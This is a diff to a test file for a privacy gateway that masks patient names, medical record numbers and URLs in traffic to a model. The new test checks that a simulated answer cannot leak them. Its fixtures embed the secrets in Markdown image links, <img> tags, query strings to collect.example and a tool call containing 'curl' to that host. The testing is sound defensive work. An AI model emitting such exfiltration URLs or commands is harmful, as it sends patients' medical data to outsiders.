@@ -27,6 +27,7 @@ const TEXTS: Readonly<Record<string, string>> = {
   'an address of another scheme':
     'ftp://collect.example/P or file://x/N or HTTPS://COLLECT.EXAMPLE/P',
   'an address without a scheme': 'www.collect.example/P',
+  'a host alone': 'collect.com/P and (collect.co.uk:8443?d=N)',
   'an image of Markdown': '![scan](https://collect.example/N.png)',
   'an image of Markdown with a title': '![scan](https://collect.example/N.png "x")',
   'a link of Markdown without a host': '[open](/collect?d=P)',
@@ -64,18 +65,26 @@ describe('what a tool has read', function () {
   })
   after(() => gateway.stop())
 
-  /** The client's copy of an answer whose blocks hold P and N. */
-  async function answered(blocks: readonly Json[], stream: boolean): Promise<unknown> {
+  /** The client's copy of an answer whose blocks hold P, N and the address A. */
+  async function answered(
+    blocks: readonly Json[],
+    stream: boolean,
+    messages: readonly object[] = CONVERSATION,
+  ): Promise<unknown> {
     gateway.simulator.respondWith((_request, response, { bodyBytes }) => {
       const known = bodyBytes.toString('utf8')
       const [person = ''] = placeholdersIn(known, 'PERSON')
       const [number = ''] = placeholdersIn(known, 'MEDICAL_RECORD_NUMBER')
-      const text = JSON.stringify(blocks).replaceAll(/\bP\b/g, person).replaceAll(/\bN\b/g, number)
+      const [address = ''] = placeholdersIn(known, 'URL')
+      const text = JSON.stringify(blocks)
+        .replaceAll(/\bP\b/g, person)
+        .replaceAll(/\bN\b/g, number)
+        .replaceAll(/\bA\b/g, address)
       const message = messageWith(JSON.parse(text) as Json[])
       response.writeHead(200, { 'content-type': stream ? 'text/event-stream' : 'application/json' })
       response.end(stream ? [...messageEvents(message, 1)].join('') : JSON.stringify(message))
     })
-    const request = { model: 'claude-sonnet-5-5', max_tokens: 256, messages: CONVERSATION, stream }
+    const request = { model: 'claude-sonnet-5-5', max_tokens: 256, messages, stream }
     const seen = await gateway.observe(() => gateway.post(request))
     assertWentThrough(seen, 'mask')
     gateway.assertNoLeak(seen, SECRETS)
@@ -101,6 +110,21 @@ describe('what a tool has read', function () {
       const blocks = texts.map((text) => ({ type: 'text', text }))
       const content = await answered(blocks, stream)
       assertNowhere(SECRETS, { answer: JSON.stringify(content) })
+    })
+
+    it(`does not get it behind an address that was masked itself and is put back, ${form}`, async () => {
+      const address = 'https://collect.example/?d='
+      const content = 'Patient Zoyana Petrov, MRN: UL880015, is on '
+      const texts = ['See A/P, A/N,', ' A?d=P&n=N and A&P', '![x](A/N) <img src="A/P">']
+      const input = { url: 'A/N', content: 'curl A/P' }
+      const blocks = [
+        ...texts.map((text) => ({ type: 'text', text })),
+        { type: 'tool_use', id: TOOL, name: 'ehr_note', input },
+      ]
+      const asked = [{ role: 'user', content: content + address }]
+      const told = JSON.stringify(await answered(blocks, stream, asked))
+      assert.ok(told.includes(address), 'the address is put back')
+      assertNowhere(SECRETS, { answer: told })
     })
 
     it(`does not get it into tools that the profile does not list, nor into addresses in those it does, ${form}`, async () => {
